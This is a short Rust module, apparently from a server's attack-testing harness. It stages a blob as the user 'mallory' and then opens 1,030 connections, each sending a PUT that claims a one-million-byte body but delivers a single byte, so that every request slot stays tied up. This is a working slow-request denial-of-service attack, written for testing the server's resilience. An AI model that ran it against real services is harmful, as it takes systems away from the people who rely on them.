//! Uploads that send a byte now and then: each is a request in progress.

use std::convert::Infallible;

use serde_json::json;

use crate::Failure;
use crate::attack::Target;

const CONNECTIONS: usize = 1_030;

pub(crate) async fn run(on: Target) -> Result<Infallible, Failure> {
    let mallory = on.attacker("request-slots")?;
    let stage = json!({"stagingId": "request-slots", "blobId": "request-slots"});
    mallory.post("/v1/vfs/blobs/stage").json(&stage).send().await?.error_for_status()?;
    on.prepared().await;
    let start = format!(
        "PUT /v1/vfs/blobs/stage/request-slots/data HTTP/1.1\r\nhost: x\r\n\
         authorization: Bearer {}\r\ncontent-length: 1000000\r\n\r\nx",
        mallory.token
    );
    Ok(on.hold(CONNECTIONS, start.into()).await)
}
